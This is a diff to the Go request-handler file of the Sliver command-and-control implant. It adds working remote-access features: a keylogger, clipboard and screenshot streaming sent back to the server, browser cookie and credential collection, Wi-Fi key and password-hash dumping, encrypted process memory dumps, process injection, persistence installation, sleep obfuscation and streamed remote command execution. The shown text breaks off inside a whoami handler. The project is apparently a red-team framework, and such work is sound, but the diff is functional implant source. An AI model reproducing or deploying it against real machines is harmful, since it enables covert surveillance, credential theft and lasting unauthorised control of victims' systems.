@@ -22,6 +22,7 @@ import (
 	"archive/tar"
 	"bytes"
 	"compress/gzip"
+	"context"
 	"errors"
 	"fmt"
 	"io"
@@ -36,25 +37,55 @@ import (
 	// {{if eq .GOOS "windows"}}
 	"syscall"
 
-	"github.com/bishopfox/sliver/sliver/priv"
 	"golang.org/x/sys/windows"
 
 	// {{end}}
 
 	"os"
+	"os/user"
 	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
 
 	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/sliver/arp"
+	"github.com/bishopfox/sliver/sliver/browser"
+	"github.com/bishopfox/sliver/sliver/checksum"
+	"github.com/bishopfox/sliver/sliver/clipboard"
+	"github.com/bishopfox/sliver/sliver/curl"
+	"github.com/bishopfox/sliver/sliver/drives"
+	"github.com/bishopfox/sliver/sliver/hashdump"
+	"github.com/bishopfox/sliver/sliver/hostinfo"
+	// {{if not .NoKeylogger}}
+	"github.com/bishopfox/sliver/sliver/keylogger"
+	// {{end}}
 	"github.com/bishopfox/sliver/sliver/netstat"
+	"github.com/bishopfox/sliver/sliver/persist"
+	"github.com/bishopfox/sliver/sliver/portscan"
+	"github.com/bishopfox/sliver/sliver/priv"
 	"github.com/bishopfox/sliver/sliver/procdump"
 	"github.com/bishopfox/sliver/sliver/ps"
+	// {{if not .NoScreenshot}}
 	screen "github.com/bishopfox/sliver/sliver/sc"
+	// {{end}}
+	"github.com/bishopfox/sliver/sliver/search"
 	"github.com/bishopfox/sliver/sliver/taskrunner"
+	"github.com/bishopfox/sliver/sliver/timestomp"
+	"github.com/bishopfox/sliver/sliver/transports"
+	"github.com/bishopfox/sliver/sliver/wifi"
 
 	"github.com/golang/protobuf/proto"
 )
 
+// {{if or .NoScreenshot .NoKeylogger}}
+// errNotCompiled - The feature was left out of the build (i.e. --no-screenshot)
+var errNotCompiled = errors.New("This feature was not compiled into the implant")
+
+// {{end}}
+
 func pingHandler(data []byte, resp RPCResponse) {
 	ping := &sliverpb.Ping{}
 	err := proto.Unmarshal(data, ping)
@@ -92,12 +123,19 @@ func psHandler(data []byte, resp RPCResponse) {
 	}
 
 	for _, proc := range procs {
-		psList.Processes = append(psList.Processes, &commonpb.Process{
+		process := &commonpb.Process{
 			Pid:        int32(proc.Pid()),
 			Ppid:       int32(proc.PPid()),
 			Executable: proc.Executable(),
 			Owner:      proc.Owner(),
-		})
+		}
+		// {{if eq .GOOS "windows"}}
+		if psListReq.FullInfo {
+			process.IntegrityLevel = ps.ProcessIntegrityLevel(proc.Pid())
+			process.Modules, _ = ps.ProcessModules(proc.Pid())
+		}
+		// {{end}}
+		psList.Processes = append(psList.Processes, process)
 	}
 	data, err = proto.Marshal(psList)
 	resp(data, err)
@@ -177,6 +215,54 @@ func getDirList(target string) (string, []os.FileInfo, error) {
 	return dir, []os.FileInfo{}, errors.New("Directory does not exist")
 }
 
+func searchHandler(data []byte, resp RPCResponse) {
+	searchReq := &sliverpb.SearchReq{}
+	err := proto.Unmarshal(data, searchReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	target, _ := filepath.Abs(searchReq.Path)
+	results, truncated, skipped, err := search.Search(target, search.Options{
+		NameGlob:     searchReq.NameGlob,
+		ContentRegex: searchReq.ContentRegex,
+		IgnoreCase:   searchReq.IgnoreCase,
+		MaxDepth:     int(searchReq.MaxDepth),
+		MaxFileSize:  searchReq.MaxFileSize,
+		MaxResults:   int(searchReq.MaxResults),
+	})
+	searchResp := &sliverpb.Search{
+		Path:      target,
+		Results:   []*sliverpb.SearchResult{},
+		Truncated: truncated,
+		Skipped:   int32(skipped),
+		Response:  &commonpb.Response{},
+	}
+	if err != nil {
+		searchResp.Response.Err = err.Error()
+	}
+	for _, result := range results {
+		searchResult := &sliverpb.SearchResult{
+			Path:    result.Path,
+			IsDir:   result.Info.IsDir(),
+			Size:    result.Info.Size(),
+			ModTime: result.Info.ModTime().Unix(),
+			Matches: []*sliverpb.SearchMatch{},
+		}
+		for _, match := range result.Matches {
+			searchResult.Matches = append(searchResult.Matches, &sliverpb.SearchMatch{
+				Line: match.Line,
+				Text: match.Text,
+			})
+		}
+		searchResp.Results = append(searchResp.Results, searchResult)
+	}
+	data, err = proto.Marshal(searchResp)
+	resp(data, err)
+}
+
 func rmHandler(data []byte, resp RPCResponse) {
 	rmReq := &sliverpb.RmReq{}
 	err := proto.Unmarshal(data, rmReq)
@@ -242,6 +328,236 @@ func mkdirHandler(data []byte, resp RPCResponse) {
 	resp(data, err)
 }
 
+func hashHandler(data []byte, resp RPCResponse) {
+	hashReq := &sliverpb.HashReq{}
+	err := proto.Unmarshal(data, hashReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	results, summary, err := checksum.Hash(hashReq.Path, checksum.Options{
+		Algorithms:  hashReq.Algorithms,
+		Recursive:   hashReq.Recursive,
+		NameGlob:    hashReq.NameGlob,
+		MaxDepth:    int(hashReq.MaxDepth),
+		MaxFileSize: hashReq.MaxFileSize,
+		MaxFiles:    int(hashReq.MaxFiles),
+		Match:       hashReq.Match,
+	})
+	hashResp := &sliverpb.Hash{
+		Files:     []*sliverpb.HashedFile{},
+		Truncated: summary.Truncated,
+		Skipped:   int32(summary.Skipped),
+		Hashed:    int32(summary.Hashed),
+		Response:  &commonpb.Response{},
+	}
+	if err != nil {
+		hashResp.Response.Err = err.Error()
+	}
+	for _, result := range results {
+		hashResp.Files = append(hashResp.Files, &sliverpb.HashedFile{
+			Path:   result.Path,
+			Size:   result.Size,
+			MD5:    result.Hashes[checksum.MD5],
+			SHA1:   result.Hashes[checksum.SHA1],
+			SHA256: result.Hashes[checksum.SHA256],
+		})
+	}
+	data, err = proto.Marshal(hashResp)
+	resp(data, err)
+}
+
+func drivesHandler(data []byte, resp RPCResponse) {
+	drivesReq := &sliverpb.DrivesReq{}
+	err := proto.Unmarshal(data, drivesReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	results, err := drives.List(drivesReq.All)
+	drivesResp := &sliverpb.Drives{
+		Drives:   []*sliverpb.Drive{},
+		Response: &commonpb.Response{},
+	}
+	if err != nil {
+		drivesResp.Response.Err = err.Error()
+	}
+	for _, drive := range results {
+		drivesResp.Drives = append(drivesResp.Drives, &sliverpb.Drive{
+			Path:       drive.Path,
+			Device:     drive.Device,
+			FsType:     drive.FsType,
+			Label:      drive.Label,
+			Type:       drive.Type,
+			Total:      drive.Total,
+			Free:       drive.Free,
+			RemotePath: drive.RemotePath,
+			ReadOnly:   drive.ReadOnly,
+		})
+	}
+	data, err = proto.Marshal(drivesResp)
+	resp(data, err)
+}
+
+func hostInfoHandler(data []byte, resp RPCResponse) {
+	hostInfoReq := &sliverpb.HostInfoReq{}
+	err := proto.Unmarshal(data, hostInfoReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	info := hostinfo.Get()
+	data, err = proto.Marshal(&sliverpb.HostInfo{
+		OS:             info.OS,
+		Version:        info.Version,
+		Build:          info.Build,
+		Kernel:         info.Kernel,
+		Arch:           info.Arch,
+		Uptime:         info.Uptime,
+		BootTime:       info.BootTime,
+		Locale:         info.Locale,
+		Timezone:       info.Timezone,
+		Domain:         info.Domain,
+		DomainJoined:   info.DomainJoined,
+		Virtualization: info.Virtualization,
+		HostUUID:       info.HostUUID,
+		Response:       &commonpb.Response{},
+	})
+	resp(data, err)
+}
+
+func arpHandler(data []byte, resp RPCResponse) {
+	arpReq := &sliverpb.ArpReq{}
+	err := proto.Unmarshal(data, arpReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	entries, err := arp.List()
+	arpResp := &sliverpb.Arp{
+		Entries:  []*sliverpb.ArpEntry{},
+		Response: &commonpb.Response{},
+	}
+	if err != nil {
+		arpResp.Response.Err = err.Error()
+	}
+	for _, entry := range entries {
+		arpResp.Entries = append(arpResp.Entries, &sliverpb.ArpEntry{
+			IP:        entry.IP,
+			MAC:       entry.MAC,
+			Interface: entry.Interface,
+			State:     entry.State,
+		})
+	}
+	data, err = proto.Marshal(arpResp)
+	resp(data, err)
+}
+
+func curlHandler(data []byte, resp RPCResponse) {
+	curlReq := &sliverpb.CurlReq{}
+	err := proto.Unmarshal(data, curlReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	headers := []curl.Header{}
+	for _, header := range curlReq.Headers {
+		headers = append(headers, curl.Header{Name: header.Name, Value: header.Value})
+	}
+	// {{if .Debug}}
+	log.Printf("curl %s %s", curlReq.Method, curlReq.URL)
+	// {{end}}
+	result, err := curl.Do(curl.Options{
+		URL:             curlReq.URL,
+		Method:          curlReq.Method,
+		Headers:         headers,
+		Body:            curlReq.Body,
+		Insecure:        curlReq.Insecure,
+		FollowRedirects: curlReq.FollowRedirects,
+		MaxBodySize:     curlReq.MaxBodySize,
+		Timeout:         time.Duration(curlReq.Timeout) * time.Second,
+	})
+	curlResp := &sliverpb.Curl{
+		Headers:  []*sliverpb.HTTPHeader{},
+		Response: &commonpb.Response{},
+	}
+	if err != nil {
+		curlResp.Response.Err = err.Error()
+	}
+	if result != nil {
+		curlResp.URL = result.URL
+		curlResp.StatusCode = int32(result.StatusCode)
+		curlResp.Status = result.Status
+		curlResp.Proto = result.Proto
+		curlResp.Body = result.Body
+		curlResp.Truncated = result.Truncated
+		curlResp.ContentLength = result.ContentLength
+		for _, header := range result.Headers {
+			curlResp.Headers = append(curlResp.Headers, &sliverpb.HTTPHeader{
+				Name:  header.Name,
+				Value: header.Value,
+			})
+		}
+	}
+	data, err = proto.Marshal(curlResp)
+	resp(data, err)
+}
+
+func portScanHandler(data []byte, resp RPCResponse) {
+	portScanReq := &sliverpb.PortScanReq{}
+	err := proto.Unmarshal(data, portScanReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	ctx := context.Background()
+	if 0 < portScanReq.Timeout {
+		var cancel context.CancelFunc
+		ctx, cancel = context.WithTimeout(ctx, time.Duration(portScanReq.Timeout)*time.Second)
+		defer cancel()
+	}
+	results, summary, err := portscan.Scan(ctx, portscan.Options{
+		Targets:     portScanReq.Targets,
+		Ports:       portScanReq.Ports,
+		Concurrency: int(portScanReq.Concurrency),
+		Rate:        int(portScanReq.Rate),
+		Timeout:     time.Duration(portScanReq.ConnectTimeout) * time.Millisecond,
+	})
+	portScanResp := &sliverpb.PortScan{
+		Ports:    []*sliverpb.OpenPort{},
+		Hosts:    int32(summary.Hosts),
+		Probes:   int64(summary.Probes),
+		Elapsed:  int64(summary.Elapsed / time.Millisecond),
+		Response: &commonpb.Response{},
+	}
+	if err == context.DeadlineExceeded {
+		portScanResp.Incomplete = true
+	} else if err != nil {
+		portScanResp.Response.Err = err.Error()
+	}
+	for _, result := range results {
+		portScanResp.Ports = append(portScanResp.Ports, &sliverpb.OpenPort{
+			Host:    result.Host,
+			Port:    uint32(result.Port),
+			Latency: int64(result.Latency / time.Millisecond),
+		})
+	}
+	data, err = proto.Marshal(portScanResp)
+	resp(data, err)
+}
+
 func cdHandler(data []byte, resp RPCResponse) {
 	cdReq := &sliverpb.CdReq{}
 	err := proto.Unmarshal(data, cdReq)
@@ -389,12 +705,34 @@ func dumpHandler(data []byte, resp RPCResponse) {
 		// {{end}}
 		return
 	}
-	res, err := procdump.DumpProcess(procDumpReq.Pid)
-	dumpResp := &sliverpb.ProcessDump{Data: res.Data()}
+	res, err := procdump.DumpProcess(procDumpReq.Pid, procDumpReq.MaxSize)
+	dumpResp := &sliverpb.ProcessDump{}
 	if err != nil {
 		dumpResp.Response = &commonpb.Response{
 			Err: fmt.Sprintf("%v", err),
 		}
+		data, err = proto.Marshal(dumpResp)
+		resp(data, err)
+		return
+	}
+	dumpResp.Size = int64(len(res.Data()))
+	dumpResp.Truncated = res.Truncated()
+
+	gzipData := bytes.NewBuffer([]byte{})
+	gzipWrite(gzipData, res.Data())
+	dumpResp.Data = gzipData.Bytes()
+	dumpResp.Encoder = "gzip"
+
+	// Encrypt the dump before it leaves the implant so it isn't sitting in the
+	// clear on any pivots it's relayed through
+	if procDumpReq.Encrypt && len(procDumpReq.Key) == transports.AESKeySize {
+		key := transports.AESKey{}.FromBytes(procDumpReq.Key)
+		dumpResp.Data, err = transports.GCMEncrypt(key, dumpResp.Data)
+		if err != nil {
+			dumpResp.Data = nil
+			dumpResp.Response = &commonpb.Response{Err: err.Error()}
+		}
+		dumpResp.Encrypted = true
 	}
 	data, err = proto.Marshal(dumpResp)
 	resp(data, err)
@@ -411,12 +749,17 @@ func taskHandler(data []byte, resp RPCResponse) {
 		return
 	}
 
+	taskResp := &sliverpb.Task{}
 	if task.Pid == 0 {
 		err = taskrunner.LocalTask(task.Data, task.RWXPages)
 	} else {
-		err = taskrunner.RemoteTask(int(task.Pid), task.Data, task.RWXPages)
+		taskResp.Technique, err = taskrunner.InjectTask(int(task.Pid), task.Data, task.RWXPages, task.Technique)
 	}
-	resp([]byte{}, err)
+	if err != nil {
+		taskResp.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(taskResp)
+	resp(data, err)
 }
 
 func sideloadHandler(data []byte, resp RPCResponse) {
@@ -425,7 +768,7 @@ func sideloadHandler(data []byte, resp RPCResponse) {
 	if err != nil {
 		return
 	}
-	result, err := taskrunner.Sideload(sideloadReq.GetProcessName(), sideloadReq.GetData(), sideloadReq.GetArgs())
+	result, err := taskrunner.Sideload(sideloadReq.GetProcessName(), sideloadReq.GetPid(), sideloadReq.GetData(), sideloadReq.GetArgs())
 	errStr := ""
 	if err != nil {
 		errStr = err.Error()
@@ -502,7 +845,13 @@ func executeHandler(data []byte, resp RPCResponse) {
 	}
 	//{{end}}
 
-	if execReq.Output {
+	if execReq.TunnelID != 0 {
+		execResp.TunnelID = execReq.TunnelID
+		err = executeStreamed(execReq.TunnelID, cmd, execResp)
+		if err != nil {
+			execResp.Response = &commonpb.Response{Err: err.Error()}
+		}
+	} else if execReq.Output {
 		res, err := cmd.Output()
 		//{{if .Debug}}
 		log.Println(string(res))
@@ -526,9 +875,116 @@ func executeHandler(data []byte, resp RPCResponse) {
 	resp(data, err)
 }
 
+// executeStream - The tunnel writer of a streamed process, writes go to its
+// stdin and closing the tunnel kills it
+type executeStream struct {
+	cmd   *exec.Cmd
+	stdin io.WriteCloser
+}
+
+func (s *executeStream) Write(data []byte) (int, error) {
+	return s.stdin.Write(data)
+}
+
+func (s *executeStream) Close() error {
+	s.stdin.Close()
+	return s.cmd.Process.Kill()
+}
+
+// Streamed processes by tunnel ID
+var (
+	executeStreams      = map[uint64]*executeStream{}
+	executeStreamsMutex = &sync.Mutex{}
+)
+
+// executeStreamed - Start cmd with its stdin and combined stdout/stderr bound
+// to a tunnel, the tunnel is closed once the process exits
+func executeStreamed(tunnelID uint64, cmd *exec.Cmd, execResp *sliverpb.Execute) error {
+	connection := transports.GetActiveConnection()
+	if connection == nil || !connection.IsOpen {
+		return errors.New("No active connection")
+	}
+	stdin, err := cmd.StdinPipe()
+	if err != nil {
+		return err
+	}
+	reader, writer := io.Pipe()
+	cmd.Stdout = writer
+	cmd.Stderr = writer
+	err = cmd.Start()
+	if err != nil {
+		return err
+	}
+	execResp.Pid = uint32(cmd.Process.Pid)
+	stream := &executeStream{cmd: cmd, stdin: stdin}
+	tunnel := transports.NewTunnel(tunnelID, reader, stream)
+	connection.AddTunnel(tunnel)
+	executeStreamsMutex.Lock()
+	executeStreams[tunnelID] = stream
+	executeStreamsMutex.Unlock()
+
+	go func() {
+		cmd.Wait()
+		// {{if .Debug}}
+		log.Printf("[execute] Process %d exited", cmd.Process.Pid)
+		// {{end}}
+		writer.Close()
+	}()
+	go func() {
+		tWriter := tunnelWriter{
+			tun:  tunnel,
+			conn: connection,
+		}
+		io.Copy(tWriter, reader)
+		executeStreamsMutex.Lock()
+		delete(executeStreams, tunnelID)
+		executeStreamsMutex.Unlock()
+		// {{if .Debug}}
+		log.Printf("[execute] Closing tunnel %d", tunnel.ID)
+		// {{end}}
+		if connection.Tunnel(tunnel.ID) != nil {
+			closeTunnel(tunnel, connection)
+			sendTunnelClose(tunnel, connection)
+		}
+	}()
+	return nil
+}
+
+func executeSignalHandler(data []byte, resp RPCResponse) {
+	signalReq := &sliverpb.ExecuteSignalReq{}
+	err := proto.Unmarshal(data, signalReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	executeStreamsMutex.Lock()
+	stream := executeStreams[signalReq.TunnelID]
+	executeStreamsMutex.Unlock()
+	signalResp := &sliverpb.ExecuteSignal{}
+	if stream == nil {
+		err = errors.New("No streamed process on this tunnel")
+	} else {
+		switch signalReq.Signal {
+		case "eof":
+			err = stream.stdin.Close()
+		case "kill":
+			err = stream.cmd.Process.Kill()
+		default:
+			err = fmt.Errorf("Unknown signal '%s'", signalReq.Signal)
+		}
+	}
+	if err != nil {
+		signalResp.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(signalResp)
+	resp(data, err)
+}
+
 func screenshotHandler(data []byte, resp RPCResponse) {
-	sc := &sliverpb.Screenshot{}
-	err := proto.Unmarshal(data, sc)
+	screenshotReq := &sliverpb.ScreenshotReq{}
+	err := proto.Unmarshal(data, screenshotReq)
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("error decoding message: %v", err)
@@ -536,15 +992,248 @@ func screenshotHandler(data []byte, resp RPCResponse) {
 		return
 	}
 	// {{if .Debug}}
-	log.Printf("Screenshot Request")
+	log.Printf("Screenshot Request (display %d)", screenshotReq.Display)
 	// {{end}}
 
-	sc.Data = screen.Capture()
+	sc := &sliverpb.Screenshot{Displays: []*sliverpb.Display{}}
+	// {{if .NoScreenshot}}
+	sc.Response = &commonpb.Response{Err: errNotCompiled.Error()}
+	// {{else}}
+	for index, rect := range screen.Displays() {
+		sc.Displays = append(sc.Displays, &sliverpb.Display{
+			Number: uint32(index + 1),
+			X:      int32(rect.Min.X),
+			Y:      int32(rect.Min.Y),
+			Width:  int32(rect.Dx()),
+			Height: int32(rect.Dy()),
+		})
+	}
+	if !screenshotReq.ListDisplays {
+		rawData, err := screen.Screenshot(int(screenshotReq.Display))
+		if err != nil {
+			sc.Response = &commonpb.Response{Err: err.Error()}
+		} else {
+			gzipData := bytes.NewBuffer([]byte{})
+			gzipWrite(gzipData, rawData)
+			sc.Data = gzipData.Bytes()
+			sc.Encoder = "gzip"
+		}
+	}
+	// {{end}}
 	data, err = proto.Marshal(sc)
+	resp(data, err)
+}
+
+func screenshotWatchHandler(data []byte, resp RPCResponse) {
+	watchReq := &sliverpb.ScreenshotWatchReq{}
+	err := proto.Unmarshal(data, watchReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	result := &sliverpb.ScreenshotWatch{}
+	// {{if .NoScreenshot}}
+	result.Response = &commonpb.Response{Err: errNotCompiled.Error()}
+	// {{else}}
+	if watchReq.Start {
+		interval := time.Duration(watchReq.Interval) * time.Second
+		err = screen.StartWatch(interval, int(watchReq.Display), int(watchReq.Quality), int(watchReq.Scale), sendScreenshotFrame)
+	} else if watchReq.Stop {
+		err = screen.StopWatch()
+	}
+	if err != nil {
+		result.Response = &commonpb.Response{Err: err.Error()}
+	}
+	running, interval, display := screen.WatchStatus()
+	result.Running = running
+	result.Interval = uint32(interval / time.Second)
+	result.Display = uint32(display)
+	// {{end}}
+	data, err = proto.Marshal(result)
+	resp(data, err)
+}
+
+func keyloggerHandler(data []byte, resp RPCResponse) {
+	keyloggerReq := &sliverpb.KeyloggerReq{}
+	err := proto.Unmarshal(data, keyloggerReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	result := &sliverpb.Keylogger{}
+	// {{if .NoKeylogger}}
+	result.Response = &commonpb.Response{Err: errNotCompiled.Error()}
+	// {{else}}
+	if keyloggerReq.Start {
+		flushInterval := time.Duration(keyloggerReq.FlushInterval) * time.Second
+		err = keylogger.Start(flushInterval, int(keyloggerReq.BufferSize), sendKeylog)
+	} else if keyloggerReq.Stop {
+		err = keylogger.Stop()
+	}
+	if err != nil {
+		result.Response = &commonpb.Response{Err: err.Error()}
+	}
+	if keyloggerReq.Flush || keyloggerReq.Stop {
+		result.Entries, result.Dropped = keylogger.Flush()
+	}
+	result.Running = keylogger.IsRunning()
+	// {{end}}
+	data, err = proto.Marshal(result)
+	resp(data, err)
+}
+
+// sendKeylog - Send keystrokes to the server outside of a request/response
+func sendKeylog(keylog *sliverpb.Keylog) error {
+	connection := transports.GetActiveConnection()
+	if connection == nil || !connection.IsOpen {
+		return errors.New("No active connection")
+	}
+	data, err := proto.Marshal(keylog)
+	if err != nil {
+		return err
+	}
+	connection.Send <- &sliverpb.Envelope{
+		Type: sliverpb.MsgKeylog,
+		Data: data,
+	}
+	return nil
+}
+
+func clipboardHandler(data []byte, resp RPCResponse) {
+	clipboardReq := &sliverpb.ClipboardReq{}
+	err := proto.Unmarshal(data, clipboardReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
 
+	result := &sliverpb.Clipboard{}
+	if clipboardReq.Start {
+		pollInterval := time.Duration(clipboardReq.PollInterval) * time.Millisecond
+		flushInterval := time.Duration(clipboardReq.FlushInterval) * time.Second
+		err = clipboard.Start(pollInterval, flushInterval, int(clipboardReq.MaxSize), int(clipboardReq.BufferSize), sendClipboardLog)
+	} else if clipboardReq.Stop {
+		err = clipboard.Stop()
+	} else if !clipboardReq.Flush {
+		var entry *sliverpb.ClipboardEntry
+		entry, err = clipboard.Capture(int(clipboardReq.MaxSize))
+		if err == nil {
+			result.Entries = []*sliverpb.ClipboardEntry{entry}
+		}
+	}
+	if err != nil {
+		result.Response = &commonpb.Response{Err: err.Error()}
+	}
+	if clipboardReq.Flush || clipboardReq.Stop {
+		result.Entries, result.Dropped = clipboard.Flush()
+	}
+	result.Running = clipboard.IsRunning()
+	data, err = proto.Marshal(result)
 	resp(data, err)
 }
 
+func wifiHandler(data []byte, resp RPCResponse) {
+	wifiReq := &sliverpb.WifiReq{}
+	err := proto.Unmarshal(data, wifiReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	result := &sliverpb.Wifi{}
+	profiles, err := wifi.Profiles()
+	if err != nil {
+		result.Response = &commonpb.Response{Err: err.Error()}
+	}
+	for _, profile := range profiles {
+		result.Profiles = append(result.Profiles, &sliverpb.WifiProfile{
+			Interface:      profile.Interface,
+			SSID:           profile.SSID,
+			Authentication: profile.Authentication,
+			Cipher:         profile.Cipher,
+			Key:            profile.Key,
+		})
+	}
+	data, err = proto.Marshal(result)
+	resp(data, err)
+}
+
+func browserHandler(data []byte, resp RPCResponse) {
+	browserReq := &sliverpb.BrowserReq{}
+	err := proto.Unmarshal(data, browserReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	data, err = proto.Marshal(&sliverpb.Browser{
+		Profiles: browser.Collect(browserReq.Browsers, browserReq.Cookies),
+	})
+	resp(data, err)
+}
+
+func hashdumpHandler(data []byte, resp RPCResponse) {
+	hashdumpReq := &sliverpb.HashdumpReq{}
+	err := proto.Unmarshal(data, hashdumpReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	result := &sliverpb.Hashdump{}
+	result.Files, err = hashdump.Collect()
+	if err != nil {
+		result.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(result)
+	resp(data, err)
+}
+
+// sendClipboardLog - Send clipboard entries to the server outside of a request/response
+func sendClipboardLog(clipboardLog *sliverpb.ClipboardLog) error {
+	connection := transports.GetActiveConnection()
+	if connection == nil || !connection.IsOpen {
+		return errors.New("No active connection")
+	}
+	data, err := proto.Marshal(clipboardLog)
+	if err != nil {
+		return err
+	}
+	connection.Send <- &sliverpb.Envelope{
+		Type: sliverpb.MsgClipboardLog,
+		Data: data,
+	}
+	return nil
+}
+
+// sendScreenshotFrame - Send a screenshot frame to the server outside of a request/response
+func sendScreenshotFrame(frame *sliverpb.ScreenshotFrame) error {
+	connection := transports.GetActiveConnection()
+	if connection == nil || !connection.IsOpen {
+		return errors.New("No active connection")
+	}
+	data, err := proto.Marshal(frame)
+	if err != nil {
+		return err
+	}
+	connection.Send <- &sliverpb.Envelope{
+		Type: sliverpb.MsgScreenshotFrame,
+		Data: data,
+	}
+	return nil
+}
+
 func netstatHandler(data []byte, resp RPCResponse) {
 	netstatReq := &sliverpb.NetstatReq{}
 	err := proto.Unmarshal(data, netstatReq)
@@ -720,3 +1409,344 @@ func compressDir(path string, buf io.Writer) error {
 	}
 	return nil
 }
+
+func persistInstallHandler(data []byte, resp RPCResponse) {
+	installReq := &sliverpb.PersistInstallReq{}
+	err := proto.Unmarshal(data, installReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	recipe, err := persist.Install(installReq.Technique, installReq.Name, installReq.Command)
+	install := &sliverpb.PersistInstall{Recipe: recipe}
+	if err != nil {
+		install.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(install)
+	resp(data, err)
+}
+
+func persistRemoveHandler(data []byte, resp RPCResponse) {
+	removeReq := &sliverpb.PersistRemoveReq{}
+	err := proto.Unmarshal(data, removeReq)
+	if err != nil || removeReq.Recipe == nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	err = persist.Remove(removeReq.Recipe)
+	remove := &sliverpb.PersistRemove{}
+	if err != nil {
+		remove.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(remove)
+	resp(data, err)
+}
+
+func reconfigHandler(data []byte, resp RPCResponse) {
+	reconfigReq := &sliverpb.ReconfigReq{}
+	err := proto.Unmarshal(data, reconfigReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	transports.Reconfigure(
+		time.Duration(reconfigReq.ReconnectInterval)*time.Second,
+		time.Duration(reconfigReq.BeaconInterval)*time.Second,
+		time.Duration(reconfigReq.BeaconJitter)*time.Second,
+	)
+	switch reconfigReq.SleepObfuscation {
+	case sliverpb.ReconfigReq_ENABLE:
+		transports.SetSleepObfuscation(true)
+	case sliverpb.ReconfigReq_DISABLE:
+		transports.SetSleepObfuscation(false)
+	}
+	if reconfigReq.BandwidthLimit < 0 {
+		transports.SetBandwidthLimit(0)
+	} else if 0 < reconfigReq.BandwidthLimit {
+		transports.SetBandwidthLimit(reconfigReq.BandwidthLimit)
+	}
+	data, err = proto.Marshal(&sliverpb.Reconfig{})
+	resp(data, err)
+}
+
+func envHandler(data []byte, resp RPCResponse) {
+	envReq := &sliverpb.EnvReq{}
+	err := proto.Unmarshal(data, envReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	envInfo := &sliverpb.EnvInfo{Variables: []*sliverpb.EnvVar{}}
+	if envReq.Name != "" {
+		value, ok := os.LookupEnv(envReq.Name)
+		if ok {
+			envInfo.Variables = append(envInfo.Variables, &sliverpb.EnvVar{Key: envReq.Name, Value: value})
+		}
+	} else {
+		for _, variable := range os.Environ() {
+			// Windows has hidden variables like "=C:=C:\foo", a leading
+			// '=' is part of the name
+			if variable == "" {
+				continue
+			}
+			index := strings.Index(variable[1:], "=") + 1
+			if index < 1 {
+				continue
+			}
+			envInfo.Variables = append(envInfo.Variables, &sliverpb.EnvVar{
+				Key:   variable[:index],
+				Value: variable[index+1:],
+			})
+		}
+	}
+	data, err = proto.Marshal(envInfo)
+	resp(data, err)
+}
+
+func setEnvHandler(data []byte, resp RPCResponse) {
+	setEnvReq := &sliverpb.SetEnvReq{}
+	err := proto.Unmarshal(data, setEnvReq)
+	if err != nil || setEnvReq.Variable == nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	setEnv := &sliverpb.SetEnv{}
+	err = os.Setenv(setEnvReq.Variable.Key, setEnvReq.Variable.Value)
+	if err != nil {
+		setEnv.Response = &commonpb.Response{
+			Err: err.Error(),
+		}
+	}
+	data, err = proto.Marshal(setEnv)
+	resp(data, err)
+}
+
+func unsetEnvHandler(data []byte, resp RPCResponse) {
+	unsetEnvReq := &sliverpb.UnsetEnvReq{}
+	err := proto.Unmarshal(data, unsetEnvReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	unsetEnv := &sliverpb.UnsetEnv{}
+	err = os.Unsetenv(unsetEnvReq.Name)
+	if err != nil {
+		unsetEnv.Response = &commonpb.Response{
+			Err: err.Error(),
+		}
+	}
+	data, err = proto.Marshal(unsetEnv)
+	resp(data, err)
+}
+
+func whoamiHandler(data []byte, resp RPCResponse) {
+	whoamiReq := &sliverpb.WhoamiReq{}
+	err := proto.Unmarshal(data, whoamiReq)
+	if err != nil {
+		// {{if .Debug}}
